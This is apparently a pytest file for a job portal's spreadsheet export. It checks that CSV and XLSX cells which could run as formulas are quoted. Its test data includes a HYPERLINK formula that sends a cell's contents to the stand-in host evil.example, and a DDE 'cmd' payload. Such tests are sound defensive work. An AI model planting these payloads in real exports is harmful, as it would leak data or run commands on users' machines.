"""CSV and XLSX files never carry a cell a spreadsheet would run as a formula (OWASP CSV injection)."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal.spreadsheets import safe_cell, xlsx_bytes
from talentpool import services
from talentpool.models import JobPosting
from tests.conftest import JINSEKI, org

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"詳細")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+81-3-1234", "'+81-3-1234"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12", "-12"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        (-12, -12),
        (Decimal("-0.5"), Decimal("-0.5")),
        ("情報システム", "情報システム"),
        ("a=b", "a=b"),
        (None, None),
        (True, True),
    ],
)
def test_cells_that_would_run_are_quoted_and_numbers_are_not(value, written):
    assert safe_cell(value) == written


def test_an_xlsx_stores_attacks_as_text_and_numbers_as_numbers():
    data = xlsx_bytes(["title", "n"], [[ATTACK, -3], ["-4", Decimal("2.5")]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "'" + ATTACK and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -3 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "-4"


def test_the_public_job_csv_neutralises_a_formula_in_a_title(client, staff, approver):
    posting = JobPosting(
        organisation=org(JINSEKI),
        title=ATTACK,
        duties="-業務=",
        conditions="@週1日",
        appointment="part_time",
    )
    services.save_job_posting(posting=posting, roles=[], by=staff)
    services.change_job_status(posting=posting, status=JobPosting.Status.SUBMITTED, by=staff)
    services.change_job_status(posting=posting, status=JobPosting.Status.PUBLISHED, by=approver)
    response = client.get("/talent/jobs.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["title"] == "'" + ATTACK
    assert rows[0]["duties"] == "'-業務="
    assert rows[0]["conditions"] == "'@週1日"
    assert rows[0]["lg_code"] == "345458"


def test_xlsx_response_is_a_formula_safe_workbook_download():
    from io import BytesIO

    from openpyxl import load_workbook

    from portal.spreadsheets import XLSX, xlsx_response

    response = xlsx_response("t.xlsx", ["title"], [[ATTACK]], title="シート")
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == 'attachment; filename="t.xlsx"'
    sheet = load_workbook(BytesIO(response.content)).active
    assert (
        sheet.title == "シート"
        and sheet["A2"].data_type == "s"
        and not str(sheet["A2"].value).startswith("=")
    )
